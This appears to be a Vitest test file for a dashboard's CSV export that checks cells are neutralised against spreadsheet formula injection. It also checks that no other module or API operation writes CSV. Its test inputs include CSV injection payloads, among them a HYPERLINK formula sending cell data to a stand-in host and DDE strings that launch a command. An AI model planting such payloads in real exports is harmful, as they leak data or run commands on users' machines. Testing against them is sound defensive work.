import { readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvCell, csvText } from '../../ui/src/components/csv.ts';
import { createTestApp, type TestApp } from '../helpers/test-app.ts';

/**
 * CSV injection (OWASP): no CSV the dashboard writes carries a cell a spreadsheet would run as a
 * formula, and the service writes none at all (its import errors are JSON, which keeps every value
 * as it was sent). The dashboard's "Download errors" files go through ui/src/components/csv-download.ts, which
 * writes its cells with csv.ts.
 */
describe('the dashboard\'s CSV cells', () => {
  it('neutralise every cell a spreadsheet would read as a formula with a leading single quote', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A1,"click")')).toBe('"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"');
    expect(csvCell('+12125550100')).toBe("'+12125550100");
    expect(csvCell('-2+3+cmd|\' /C calc\'!A0')).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(1+1)*cmd|\' /C calc\'!A0')).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe('"\'\r=1+1"');
  });

  it('leave other cells as they are, quoted only for a comma, quote or line break, and write null as empty', () => {
    expect(csvCell('not a valid phone number')).toBe('not a valid phone number');
    expect(csvCell('12125550100')).toBe('12125550100');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(101)).toBe('101');
    expect(csvCell('one, two')).toBe('"one, two"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell(null)).toBe('');
  });

  it('writes the errors file a spreadsheet opens as plain text', () => {
    const file = csvText(['row', 'phone_number', 'reason'], [[5, '=HYPERLINK("http://x.example")', 'not a valid phone number'], [6, null, 'no phone number']]);
    expect(file).toBe('row,phone_number,reason\r\n5,"\'=HYPERLINK(""http://x.example"")",not a valid phone number\r\n6,,no phone number\r\n');
  });
});

/** Source files of a tree, without tests and generated types. */
function sources(dir: string): string[] {
  return readdirSync(dir, { withFileTypes: true, recursive: true })
    .filter((e) => e.isFile() && /\.(ts|tsx|mjs)$/.test(e.name) && !/\.test\.ts$|\.d\.ts$/.test(e.name))
    .map((e) => join(e.parentPath, e.name));
}

describe('every CSV writer', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t?.close());

  it('in the dashboard goes through ui/src/components/csv-download.ts (whose cells are csv.ts\'s)', () => {
    const root = join(import.meta.dirname, '../..');
    // A CSV file is made as a Blob of type text/csv (a download) or served as text/csv; an `accept=` of an upload input reads one.
    const writers = [...sources(join(root, 'ui/src')), ...sources(join(root, 'src'))]
      .filter((file) => readFileSync(file, 'utf8').split('\n').some((line) => /text\/csv/.test(line) && !/accept=/.test(line)))
      .map((file) => relative(root, file));
    expect(writers).toEqual(['ui/src/components/csv-download.ts']);
  });

  it('does not exist in the service: no operation answers text/csv', async () => {
    const doc = (await t.request({ method: 'GET', url: '/api/v1/openapi.json' })).json() as { paths: Record<string, Record<string, { responses?: Record<string, { content?: Record<string, unknown> }> }>> };
    const csvAnswers = Object.entries(doc.paths).flatMap(([path, methods]) => Object.entries(methods).flatMap(([method, op]) =>
      Object.values(op.responses ?? {}).some((r) => Object.keys(r.content ?? {}).some((type) => type.includes('csv'))) ? [`${method} ${path}`] : []));
    expect(csvAnswers).toEqual([]);
  });
});
